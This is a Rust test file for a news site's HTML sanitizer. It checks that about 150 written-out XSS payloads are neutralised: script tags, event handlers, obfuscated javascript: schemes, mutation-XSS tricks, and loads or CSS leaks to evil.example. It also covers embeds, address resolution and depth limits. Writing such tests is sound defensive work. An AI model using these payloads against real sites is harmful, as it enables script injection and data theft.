//! What `CleanHtml` promises to every reader:
//! - no attack known to us leaves anything that runs, loads or submits
//! - every address in it is absolute and on the web (links may also be to a
//!   person), and relative ones are resolved
//! - pictures that a script would have loaded have their address; pixels that
//!   only count readers are gone
//! - a known player is a link to what it plays or, where the operator wants it, a
//!   frame in a sandbox; an unknown one is gone
//! - characters that XML cannot hold are gone, all others stay
//! - cleaning twice is the same as cleaning once, whatever came in
//! - no markup makes it slow, deep or large

use crate::harmless::{check_but_frames, check_harmless, check_tree, tags};
use pressroom::text::{CleanHtml, Embeds};
use pressroom::web_address::WebAddress;
use proptest::prelude::*;

fn base() -> WebAddress {
    "https://news.example/politics/story.html".parse().unwrap()
}

fn clean(html: &str) -> String {
    CleanHtml::clean(html, Some(&base())).as_str().to_owned()
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" srcset=\"javascript:alert(1) 1x\">",
    "<img srcset=\"javascript:alert(1) 1x, data:text/html,x 2x\">",
    "<img src=`javascript:alert(1)`>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
    "<img data-src=\"javascript:alert(1)\">",
    "<img data-srcset=\"javascript:alert(1) 1x\" src=\"vbscript:x\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://evil.example/1\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<a ping=\"https://evil.example/\" href=\"x\" target=\"_blank\" download>x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><a title=\"</iframe><img src onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><a title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<textarea><a title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><a title=\"</title><img src onerror=alert(1)>\"></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<applet code=x></applet>",
    "<form action=\"javascript:alert(1)\"><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<select><option><script>alert(1)</script></option></select>",
    "<isindex action=javascript:alert(1)>",
    "<base href=\"https://evil.example/\"><a href=\"x\">x</a>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1));position:fixed;inset:0\">x</div>",
    "<p style=\"width:expression(alert(1))\" id=\"x\" class=\"y\">x</p>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</td></table>",
    "<body onload=alert(1) background=\"javascript:alert(1)\">x",
    "<html onmouseover=alert(1)><head><script>alert(1)</script></head>x",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<video src=\"javascript:alert(1)\" poster=\"javascript:alert(1)\" onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onloadstart=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<bgsound src=\"javascript:alert(1)\">",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote><q cite=\"javascript:alert(1)\">x</q>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?php echo 1 ?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<img alt=\"`onerror=alert(1)//\" src=\"https://news.example/a.jpg\">",
    "<a title=\"x\u{0}\" href=\"java\u{0}script:alert(1)\">x</a>",
    "<custom-element onclick=alert(1) is=x><script>alert(1)</script></custom-element>",
    "<portal src=\"javascript:alert(1)\"></portal>",
    "<img src=x:x onerror=alert(1) loading=eager fetchpriority=high>",
    "<a href=\"//evil.example\\@news.example/\">x</a>",
    "<p>\u{B}&#11;&#x1F;&#xFFFE;\u{FFFF}x</p>",
    // Handlers, however they are written.
    "<p onpointerenter=alert(1)>x</p>",
    "<p onwheel='alert(1)' onauxclick=alert(1)>x</p>",
    "<p ONCLICK=alert(1)>x</p>",
    "<p on\u{0}click=alert(1)>x</p>",
    "<p/onclick=alert(1)/>x</p>",
    "<p title=a\u{C}onclick=alert(1)>x</p>",
    "<p title=''onclick=alert(1)>x</p>",
    "<p x='>' onclick=alert(1)>x</p>",
    "<p \u{200B}onclick=alert(1)>x</p>",
    "<img src=https://news.example/a.jpg onload=alert(1)>",
    "<img src=https://news.example/a.jpg onerror\u{B}=alert(1)>",
    "<video controls onloadedmetadata=alert(1)><source src=https://news.example/a.mp4></video>",
    "<video><track kind=captions src=https://evil.example/x.vtt oncuechange=alert(1) default></video>",
    "<dialog open oncancel=alert(1)>x</dialog>",
    "<p contenteditable onbeforeinput=alert(1)>x</p>",
    "<p popover onbeforetoggle=alert(1)>x</p>",
    "<button popovertarget=x onclick=alert(1)>x</button>",
    "<p style=\"animation-name:x\" onanimationend=alert(1)>x</p>",
    "<p style=\"transition:1s\" ontransitionend=alert(1)>x</p>",
    "<ul><li onfocusin=alert(1) tabindex=0>x</li></ul>",
    // Schemes, however they are written.
    "<a href=\"javascript\u{3A}alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=\"javascript&#x3A;alert(1)\">x</a>",
    "<a href=\"java&NewLine;script&Tab;:alert(1)\">x</a>",
    "<a href=\"java\r\nscript:alert(1)\">x</a>",
    "<a href=\"\u{A0}javascript:alert(1)\">x</a>",
    "<a href=\"\u{2028}javascript:alert(1)\">x</a>",
    "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>",
    "<a href=\"\u{1F}\u{1E}javascript:alert(1)\">x</a>",
    "<a href=\"javascript://news.example/%0aalert(1)\">x</a>",
    "<a href=\"jAvAsCrIpT&colon;alert(1)\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"jar:https://evil.example/x.jar!/\">x</a>",
    "<a href=\"mhtml:https://evil.example/x\">x</a>",
    "<a href=\"filesystem:https://evil.example/x\">x</a>",
    "<a href=\"about:srcdoc\">x</a>",
    "<a href=\"intent://x#Intent;scheme=javascript;end\">x</a>",
    "<a href=\"livescript:alert(1)\">x</a>",
    "<a href=\"mocha:alert(1)\">x</a>",
    "<a href=\"data:,x\">x</a>",
    "<a href=\"data&colon;text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"  data:text/html;charset=utf-7,+ADw-script+AD4-alert(1)+ADw-/script+AD4-\">x</a>",
    "<a href=\"http://news.example@evil.example:javascript\">x</a>",
    "<a href=\"https:\\\\evil.example\\x\">x</a>",
    "<img src=\"javascript&colon;alert(1)\">",
    "<img src=\"https://news.example/a.jpg\" srcset=\"java\nscript:alert(1) 1x\">",
    "<img srcset=\",,javascript:alert(1),,data:x 2x,\">",
    "<picture><source srcset=\"data:image/svg+xml,<svg/onload=alert(1)>\"><img src=x></picture>",
    "<source src=\"javascript:alert(1)\" srcset=\"javascript:alert(1)\">",
    "<video poster=\"data:image/svg+xml;base64,PHN2Zz4=\" src=\"blob:x\"></video>",
    "<audio src=\"data:audio/wav;base64,UklGRg==\" autoplay></audio>",
    // Trees that change when they are built a second time.
    "<svg><title><style><a title=\"</style></title><img src=x onerror=alert(1)>\">",
    "<svg><desc><noscript><img title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea><img src=x onerror=alert(1)>\">",
    "<math><style><!--</style><img src=x onerror=alert(1)>--></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><style><img src=x onerror=alert(1)></style>",
    "<table><caption><svg><table><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<select><style><img title=\"</style><img src=x onerror=alert(1)>\"></select>",
    "<select><template><style><!--</style><a rel=\"--></style></select><img src=x onerror=alert(1)>\">",
    "<p><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
    "<b><template><p title=\"</template><img src=x onerror=alert(1)>\"></template></b>",
    "<a><table><a href=\"javascript:alert(1)\">x</a></table></a>",
    "<form id=a></form><button form=a formaction=\"javascript:alert(1)\">x</button>",
    "<frameset onload=alert(1)><noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "</p/><img src=x onerror=alert(1)>",
    "</ img src=x><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "<%<!--'%><script>alert(1)</script -->",
    "<script\u{C}>alert(1)</script\u{C}>",
    "<script>/*</script><img src=x onerror=alert(1)>*/",
    "&lt;script&gt;alert(1)&lt;/script&gt;<img src=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<listing><img src=x onerror=alert(1)></listing>",
    "<keygen autofocus onfocus=alert(1)>",
    "<layer src=\"https://evil.example/x.js\"></layer>",
    "<xml id=x><i><img src=x onerror=alert(1)></i></xml>",
    // What takes over the page around it.
    "<a id=location name=cookie href=\"https://evil.example/\">x</a>",
    "<img name=getElementById id=body src=https://news.example/a.jpg>",
    "<form name=document><input name=cookie></form>",
    "<slot name=x><p slot=x is=evil-element>x</p></slot>",
    "<map name=x><area href=\"javascript:alert(1)\" shape=default></map><img usemap=#x src=https://news.example/a.jpg>",
    "<a href=\"https://evil.example/\" target=_top rel=opener>x</a>",
    "<div itemscope itemtype=\"javascript:x\" data-bind=\"alert(1)\" ng-app v-html=\"alert(1)\">{{alert(1)}}</div>",
    "<p class=\"modal fixed\" role=dialog aria-live=assertive>x</p>",
    "<link rel=import href=\"https://evil.example/\"><link rel=prefetch href=\"https://evil.example/\">",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>*{background:url(https://evil.example/?leak)}</style><p style=\"background:url(//evil.example)\">x</p>",
    "<fencedframe src=\"https://evil.example/\"></fencedframe>",
    "<object type=\"text/x-scriptlet\" data=\"https://evil.example/x\"><param name=url value=\"javascript:alert(1)\"></object>",
    "<embed code=\"https://evil.example/x.swf\" allowscriptaccess=always>",
];

#[test]
fn no_attack_leaves_anything_that_acts() {
    assert!(ATTACKS.len() >= 150, "{}", ATTACKS.len());
    for attack in ATTACKS {
        for html in [(*attack).to_owned(), format!("<p>before {attack} after</p>")] {
            for base in [None, Some(base())] {
                let clean = CleanHtml::clean(&html, base.as_ref());
                let checked = check_harmless(&clean);
                assert_eq!(checked, Ok(()), "{html:?} became {:?}", clean.as_str());
                let built = check_tree(&clean);
                assert_eq!(built, Ok(()), "{html:?} became {:?}", clean.as_str());
                assert!(!clean.contains("alert(1)") || !clean.contains("<script"), "{html:?}");
                let framed = CleanHtml::clean_with(&html, base.as_ref(), &frames());
                let checked = check_but_frames(&framed, HOSTS).and_then(|()| check_tree(&framed));
                assert_eq!(checked, Ok(()), "{html:?} became {:?}", framed.as_str());
            }
        }
    }
}

/// The hosts whose frames may stay in these tests.
const HOSTS: &[&str] = &[
    "www.youtube.com",
    "www.youtube-nocookie.com",
    "player.vimeo.com",
    "www.dailymotion.com",
    "geo.dailymotion.com",
    "w.soundcloud.com",
    "open.spotify.com",
    "player.example",
];

fn frames() -> Embeds {
    Embeds { framed: true, hosts: vec!["player.example".to_owned()] }
}

/// Players as articles embed them, what they play, and whose they are.
const PLAYERS: &[(&str, &str, &str)] = &[
    (
        "https://www.youtube.com/embed/dQw4w9WgXcQ",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "YouTube",
    ),
    (
        "//www.youtube.com/embed/dQw4w9WgXcQ?start=7",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "YouTube",
    ),
    (
        "http://www.youtube.com/v/dQw4w9WgXcQ",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "YouTube",
    ),
    (
        "https://www.youtube.com/embed/videoseries?list=PL0a_b-c",
        "https://www.youtube.com/playlist?list=PL0a_b-c",
        "YouTube",
    ),
    (
        "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "YouTube",
    ),
    ("https://player.vimeo.com/video/76979871", "https://vimeo.com/76979871", "Vimeo"),
    (
        "https://player.vimeo.com/video/76979871?h=8272103f6e&dnt=1",
        "https://vimeo.com/76979871/8272103f6e",
        "Vimeo",
    ),
    (
        "https://www.dailymotion.com/embed/video/x8abcd",
        "https://www.dailymotion.com/video/x8abcd",
        "Dailymotion",
    ),
    (
        "https://geo.dailymotion.com/player/x1.html?video=x8abcd",
        "https://www.dailymotion.com/video/x8abcd",
        "Dailymotion",
    ),
    (
        "https://w.soundcloud.com/player/?url=https%3A//soundcloud.com/desk/news&color=ff5500",
        "https://soundcloud.com/desk/news",
        "SoundCloud",
    ),
    (
        "https://open.spotify.com/embed/episode/4rOoJ6Egrf8K2IrywzwOMk?utm_source=x",
        "https://open.spotify.com/episode/4rOoJ6Egrf8K2IrywzwOMk",
        "Spotify",
    ),
    ("https://player.example/a?b=c&d=e", "https://player.example/a?b=c&d=e", "player.example"),
];

#[test]
fn known_players_are_links_or_frames() {
    let links = Embeds { framed: false, ..frames() };
    for (player, page, name) in PLAYERS {
        let html = format!(
            "<p>Before.</p><iframe width=560 height=315px src=\"{}\" allow=\"autoplay\" allowfullscreen \
             onload=alert(1) name=x>old <b>readers</b></iframe><p>After.</p>",
            player.replace('&', "&amp;")
        );
        let link = CleanHtml::clean_with(&html, Some(&base()), &links);
        let href = page.replace('&', "&amp;");
        let expected = format!("<p>Before.</p><p><a href=\"{href}\">{name}</a></p><p>After.</p>");
        assert_eq!(link.as_str(), expected);
        let framed = CleanHtml::clean_with(&html, Some(&base()), &frames());
        assert_eq!(check_but_frames(&framed, HOSTS), Ok(()), "{framed}");
        let about = format!(
            "\" width=\"560\" height=\"315\" title=\"{name}\" \
             sandbox=\"allow-scripts allow-same-origin allow-presentation\" loading=\"lazy\" \
             referrerpolicy=\"strict-origin-when-cross-origin\"></iframe><p>After.</p>"
        );
        assert!(framed.starts_with("<p>Before.</p><iframe src=\"https://"), "{framed}");
        assert!(framed.ends_with(&about), "{framed}");
        for embeds in [&links, &frames()] {
            let once = CleanHtml::clean_with(&html, Some(&base()), embeds);
            assert_eq!(CleanHtml::clean_with(&once, None, embeds), once);
            assert_eq!(
                once.with_words(embeds, str::to_uppercase)
                    .with_words(embeds, str::to_lowercase)
                    .len(),
                once.len()
            );
        }
        // What was a frame is a link when the operator thinks better of it.
        assert!(CleanHtml::clean_with(&framed, None, &links).contains(&href), "{framed}");
    }
}

#[test]
fn figures_of_a_table_stand_where_they_were_put() {
    let table = [
        ("<td style=\"text-align: right\">1", "<td align=\"right\">1"),
        ("<td style=\"color: red; TEXT-ALIGN:Center !important\">1", "<td align=\"center\">1"),
        ("<th scope=\"col\" align=\" RIGHT\">1", "<th scope=\"col\" align=\"right\">1"),
        ("<td align=\"char\" style=\"text-align:url(x)\">1", "<td>1"),
        ("<td align=\"left\" align=\"right\" style=\"text-align:left\">1", "<td align=\"left\">1"),
    ];
    for (cell, kept) in table {
        let clean = CleanHtml::clean(&format!("<table><tr>{cell}</table>"), None);
        assert!(clean.contains(kept), "{cell}: {}", clean.as_str());
    }
    let elsewhere = CleanHtml::clean("<p align=\"right\" style=\"text-align:right\">1", None);
    assert_eq!(elsewhere.as_str(), "<p>1</p>");
}

#[test]
fn other_players_are_gone() {
    let table = [
        "https://evil.example/embed/dQw4w9WgXcQ",
        "https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ",
        "https://evil.example/www.youtube.com/embed/dQw4w9WgXcQ",
        "https://www.youtube.com@evil.example/embed/dQw4w9WgXcQ",
        "https://evil@www.youtube.com/embed/dQw4w9WgXcQ",
        "https://www.youtube.com:8443/embed/dQw4w9WgXcQ",
        "https://www.youtube.com/subscribe_embed?usegapi=1",
        "https://www.youtube.com/embed/",
        "https://www.youtube.com/embed/%22onload=alert(1)",
        "https://www.youtube.com/redirect?q=https://evil.example/",
        "https://player.vimeo.com/video/",
        "https://player.vimeo.com/external/76979871.hd.mp4",
        "https://geo.dailymotion.com/player.html?video=../../logout",
        "https://w.soundcloud.com/player/?url=javascript:alert(1)//",
        "https://w.soundcloud.com/player/",
        "https://open.spotify.com/embed/",
        "https://sub.player.example/a",
        "javascript:alert(1)//www.youtube.com/embed/x",
        "data:text/html,<script>alert(1)</script>",
        "ftp://www.youtube.com/embed/dQw4w9WgXcQ",
        "about:srcdoc",
        "",
    ];
    for address in table {
        for element in ["iframe src", "iframe data-src", "embed src", "object data"] {
            let (name, attribute) = element.split_once(' ').unwrap();
            let html = format!(
                "<p>a</p><{name} {attribute}='{address}' srcdoc='<b>x</b>'></{name}><p>b</p>"
            );
            for embeds in [Embeds { framed: false, ..frames() }, frames()] {
                let clean = CleanHtml::clean_with(&html, Some(&base()), &embeds);
                let soundcloud = address.contains("player/?url=javascript");
                if soundcloud {
                    assert!(!clean.contains("href=\"javascript"), "{clean}");
                    assert_eq!(check_but_frames(&clean, HOSTS), Ok(()), "{clean}");
                } else {
                    assert_eq!(clean.as_str(), "<p>a</p><p>b</p>", "{html}");
                }
            }
        }
    }
}

#[test]
fn text_around_an_attack_survives() {
    assert_eq!(clean("<p>before <script>x</script> after</p>"), "<p>before  after</p>");
    assert_eq!(clean("<p>before <svg><p>x</svg> after</p>"), "<p>before </p><p>x after</p>");
    assert_eq!(clean("<div><object>x</div><p>after</p>"), "<div>x</div><p>after</p>");
    assert_eq!(clean("<form>Poll: <select><option>x</select> yes</form>"), "Poll:  yes");
}

#[test]
fn characters_go_only_when_they_are_none_to_publish() {
    for held in ['\t', '\n', '\u{7F}', '\u{85}', '\u{9F}', '\u{FFFD}', '\u{10FFFD}'] {
        let cleaned = clean(&format!("a{held}{held}?>"));
        assert_eq!(cleaned, format!("a{held}{held}?&gt;"));
        assert_eq!(check_harmless(&cleaned), Ok(()));
    }
    for foreign in
        ['\0', '\u{1}', '\u{8}', '\u{B}', '\u{1F}', '\u{FFFE}', '\u{FFFF}', '\u{FDD0}', '\u{1FFFE}']
    {
        assert_eq!(check_harmless(&clean(&format!("a{foreign}{foreign}?>"))), Ok(()));
    }
}

#[test]
fn what_a_table_is_given_counts_as_deep_both_times() {
    for rows in ["", "<tr>", "<td>", "<tr><td>", "<tbody><td>", "<caption>"] {
        let once = clean(&format!("<table>{rows}{}x", "<b>".repeat(60)));
        assert_eq!(clean(&once), once, "{rows}");
    }
}

#[test]
fn words_that_look_like_an_address_are_words() {
    let cleaned =
        clean("<p title='vbscript:\">x' lang='file:\"x'>Text</p><img src=/a.png alt='data:x'>");
    for word in ["vbscript:", "file:", "data:x"] {
        assert!(cleaned.contains(word), "{cleaned}");
    }
    assert_eq!(check_harmless(&cleaned), Ok(()));
    assert_eq!(check_tree(&cleaned), Ok(()));
}

#[test]
fn addresses_become_absolute() {
    let table = [
        (
            "<a href=\"next.html\">x</a>",
            "<a href=\"https://news.example/politics/next.html\">x</a>",
        ),
        (
            "<a href=\"/a?b=1&amp;c=2\">x</a>",
            "<a href=\"https://news.example/a?b=1&amp;c=2\">x</a>",
        ),
        ("<a href=\"//cdn.example/a\">x</a>", "<a href=\"https://cdn.example/a\">x</a>"),
        ("<a href=\"https:other\">x</a>", "<a href=\"https://other/\">x</a>"),
        (
            "<a href=\"#note\">x</a>",
            "<a href=\"https://news.example/politics/story.html#note\">x</a>",
        ),
        (
            "<a href=\"mailto:desk@news.example\">x</a>",
            "<a href=\"mailto:desk@news.example\">x</a>",
        ),
        ("<a href=\"\">x</a>", "<a>x</a>"),
        (
            "<img src=\"../a b.jpg\" alt=\"A\">",
            "<img src=\"https://news.example/a%20b.jpg\" alt=\"A\">",
        ),
        (
            "<img srcset=\"a,b.jpg 1x,c.jpg 2x\">",
            "<img srcset=\"https://news.example/politics/a%2Cb.jpg 1x, https://news.example/politics/c.jpg 2x\">",
        ),
        (
            "<img src=\"data:image/gif;base64,R0\" data-src=\"/a.jpg\"><noscript><img src=\"/a.jpg\"></noscript>",
            "<img src=\"https://news.example/a.jpg\">",
        ),
        ("<noscript><img src=\"/a.jpg\"></noscript>", "<img src=\"https://news.example/a.jpg\">"),
        ("a<img src=\"/count.gif\" width=\"1\" height=\"1\">b", "ab"),
        ("a<img alt=\"none\">b", "ab"),
        (
            "<picture><source srcset=\"/a.webp\" type=\"image/webp\"><img src=\"/a.jpg\"></picture>",
            "<picture><source srcset=\"https://news.example/a.webp\" type=\"image/webp\"><img src=\"https://news.example/a.jpg\"></picture>",
        ),
    ];
    for (html, expected) in table {
        assert_eq!(clean(html), expected, "{html}");
    }
    assert_eq!(CleanHtml::clean("<a href=\"next.html\">x</a>", None).as_str(), "<a>x</a>");
}

#[test]
fn structure_survives() {
    for html in [
        "<h2>Head</h2><p>One <b>two <i>three</i></b>.</p>",
        "<ul><li>One<ul><li>Two</li></ul></li><li>Three</li></ul>",
        "<figure><img src=\"https://a.example/a.jpg\" alt=\"A\"><figcaption>B</figcaption></figure>",
        "<table><thead><tr><th>A</th></tr></thead><tbody><tr><td>B</td></tr></tbody></table>",
        "<blockquote><p>A</p></blockquote><pre><code>a\n  b</code></pre>",
        "<p dir=\"rtl\" lang=\"ur\">خبر</p>",
        "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    ] {
        assert_eq!(clean(html), html);
    }
    assert_eq!(
        clean("<p>one<p>two<ul><li>a<li>b</ul>"),
        "<p>one</p><p>two</p><ul><li>a</li><li>b</li></ul>"
    );
    assert_eq!(clean("<b>a<p>b</b>c"), "<b>a<p>bc</p></b>");
}

#[test]
fn hostile_size_and_depth_stay_bounded() {
    let depth = |html: &str| {
        let mut depth = 0usize;
        let mut deepest = 0;
        for tag in tags(html) {
            if tag.kind == html5ever::tokenizer::TagKind::EndTag {
                depth = depth.saturating_sub(1);
            } else if !matches!(&*tag.name, "img" | "br" | "hr" | "wbr" | "source" | "col") {
                depth += 1;
                deepest = deepest.max(depth);
            }
        }
        deepest
    };
    for open in
        ["<div>", "<b>", "<font size=1>", "<table><tr><td>", "<ul><li>", "<a href=/x>", "<svg>"]
    {
        let clean = clean(&open.repeat(50_000));
        assert!(depth(&clean) <= 64, "{open}: {}", depth(&clean));
    }
    // Formatting left open is opened again in every paragraph after it.
    let formats: String = (0..5_000).map(|n| format!("<span title={n}>")).collect();
    let html = format!("{formats}{}", "<p>x".repeat(5_000));
    assert!(clean(&html).len() < 4 * html.len());
}

proptest! {
    #[test]
    fn any_text_comes_out_harmless_and_settled(html in "\\PC{0,200}") {
        let once = clean(&html);
        prop_assert_eq!(check_harmless(&once), Ok(()));
        prop_assert_eq!(&clean(&once), &once);
    }

    #[test]
    fn any_markup_comes_out_harmless_and_settled(pieces in prop::collection::vec(piece(), 0..24)) {
        let html = pieces.concat();
        let once = clean(&html);
        prop_assert_eq!(check_harmless(&once), Ok(()), "{} became {}", html, once);
        prop_assert_eq!(&clean(&once), &once, "{}", html);
        let framed = CleanHtml::clean_with(&html, Some(&base()), &frames());
        prop_assert_eq!(check_but_frames(&framed, HOSTS), Ok(()), "{} became {}", html, framed);
        let again = CleanHtml::clean_with(&framed, Some(&base()), &frames());
        prop_assert_eq!(again, framed, "{}", html);
    }
}

/// Pieces that tree builders treat in special ways, in any order.
fn piece() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "<p>",
        "</p>",
        "<div>",
        "</div>",
        "<b>",
        "</b>",
        "<i title=\"a&quot;>b\">",
        "</i>",
        "<a href=x>",
        "</a>",
        "<table>",
        "</table>",
        "<tr>",
        "<td>",
        "</td>",
        "<tbody>",
        "<caption>",
        "<col>",
        "<ul>",
        "</ul>",
        "<li>",
        "</li>",
        "<dl>",
        "<dt>",
        "<dd>",
        "<h1>",
        "</h1>",
        "<h2>",
        "<pre>",
        "\n",
        "</pre>",
        "<br>",
        "</br>",
        "<hr>",
        "<img src=a.jpg>",
        "<img data-src=b.jpg>",
        "<noscript>",
        "</noscript>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mi>",
        "<style>",
        "</style>",
        "<script>",
        "</script>",
        "<title>",
        "</title>",
        "<textarea>",
        "</textarea>",
        "<select>",
        "<option>",
        "<button>",
        "</button>",
        "<template>",
        "</template>",
        "<object>",
        "</object>",
        "<video src=v.mp4>",
        "</video>",
        "<source src=s>",
        "<picture>",
        "</picture>",
        "<figure>",
        "</figure>",
        "<figcaption>",
        "<details open>",
        "<summary>",
        "</summary>",
        "<ruby>",
        "<rt>",
        "<rp>",
        "<rb>",
        "<rtc>",
        "<center>",
        "<font>",
        "</font>",
        "<nobr>",
        "<form>",
        "</form>",
        "<frameset>",
        "<body>",
        "</body>",
        "<html>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<?",
        "&lt;",
        "&amp;lt;",
        "&nbsp;",
        "&#0;",
        "text",
        "a < b",
        "<",
        ">",
        "\"",
        "<blockquote>",
        "</blockquote>",
        "<section>",
        "<span>",
        "</span>",
        "<s>",
        "<small>",
        "<code>",
        "</code>",
        "<em>",
        "<strong>",
        "<u>",
        "</u>",
        "<ol start=3>",
        "<iframe src=//player.vimeo.com/video/1>",
        "<iframe src='https://player.example/\"x' title='<b>&quot;'>",
        "</iframe>",
        "<embed src=https://www.youtube.com/embed/x>",
        "<object data=https://www.youtube.com/v/x>",
        "</ol>",
    ])
}

#[test]
fn hidden_addresses_of_people_are_decoded() {
    // The first byte is the key of the others: ann@news.example.
    let key = 0x42;
    let cipher: String = std::iter::once(key)
        .chain("ann@news.example".bytes().map(|byte| byte ^ key))
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let link = "<a href=\"mailto:ann@news.example\">ann@news.example</a>";
    let hidden = format!(
        "<p>Write to <a href='/cdn-cgi/l/email-protection' class='__cf_email__' \
         data-cfemail='{cipher}'>[email&#160;protected]</a> now.</p>"
    );
    assert_eq!(clean(&hidden), format!("<p>Write to {link} now.</p>"));
    let within = format!(
        "<p><a href='https://news.example/cdn-cgi/l/email-protection#{cipher}'>\
         <span data-cfemail='{cipher}'>[email protected]</span></a></p>"
    );
    assert_eq!(clean(&within), format!("<p>{link}</p>"));
    let lost =
        "<p><a href='/cdn-cgi/l/email-protection#zz'>Ann</a> <span data-cfemail='4'>x</span></p>";
    assert_eq!(clean(lost), "<p><a>Ann</a> <span>x</span></p>");
}

#[test]
fn what_is_hidden_where_it_comes_from_is_not_shown() {
    let table = [
        ("<p>One<p hidden>Two<p>Three", "<p>One</p><p>Three</p>"),
        (
            "<p>One</p><div hidden=''><p>Two<div>Two</div></p></div><p>Three</p>",
            "<p>One</p>\n<p>Three</p>",
        ),
        (
            "<p>One <span style='color:red; DISPLAY : none !important'>two</span> three</p>",
            "<p>One  three</p>",
        ),
